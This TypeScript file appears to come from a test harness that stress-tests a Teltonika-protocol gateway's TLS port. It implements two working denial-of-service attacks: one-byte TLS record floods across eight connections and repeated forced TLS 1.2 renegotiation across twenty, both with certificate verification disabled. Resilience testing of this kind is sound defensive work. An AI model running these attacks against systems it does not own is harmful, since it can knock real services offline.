import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls, type TLSSocket } from 'node:tls'
import { avlLogin } from '../support/encode.ts'
import { type Attack, type Cost, HOST, once, sideBySide, type Victim } from './attacker-connections.ts'
import { packet } from './id-attacks.ts'

/** Attacks on a port with TLS by connections whose handshakes are done. */
export const TRUST_ATTACKS = {
  'TLS records of one byte': records,
  'TLS handshakes anew on a connection': renegotiations,
} satisfies Record<string, Attack>

const WITH_TLS = 'tcp/teltonika#2'

/** Real packets, a record for each byte: 23 bytes of work for each that counts. */
async function records({ ports, known }: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
  const port = ports[WITH_TLS]
  // A gateway that runs already may have none.
  if (port === undefined) return
  await sideBySide(8, signal, async (index) => {
    const socket = await secured(port, cost)
    let seconds = 0
    socket.write(avlLogin(known[index]))
    while (!signal.aborted && !socket.destroyed) {
      for (const byte of packet(20, () => Date.now() - 3_600_000 + seconds++ * 10)) socket.write(Buffer.of(byte))
      while (socket.writableLength > 100_000 && !socket.destroyed && !signal.aborted) await sleep(1)
      await sleep(1)
    }
    end(socket, cost)
  })
}

/** As many as TLS 1.2 allows on each of 20 connections, then on new ones. */
async function renegotiations({ ports }: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
  const port = ports[WITH_TLS]
  if (port === undefined) return
  await sideBySide(20, signal, async () => {
    const socket = await secured(port, cost)
    while (!signal.aborted && !socket.destroyed) {
      const done = new Promise((resolve) => socket.renegotiate({ rejectUnauthorized: false }, resolve))
      cost.units++
      await Promise.race([done, sleep(1000)])
    }
    end(socket, cost)
  })
}

/** A connection with TLS 1.2. */
async function secured(port: number, cost: Cost): Promise<TLSSocket> {
  cost.units++
  const socket = connectTls({ host: HOST, port, rejectUnauthorized: false, maxVersion: 'TLSv1.2' })
  socket.on('error', () => {})
  await once(socket, 'secureConnect', 2000)
  return socket
}

function end(socket: TLSSocket, cost: Cost): void {
  cost.bytes += socket.bytesWritten
  socket.destroy()
}
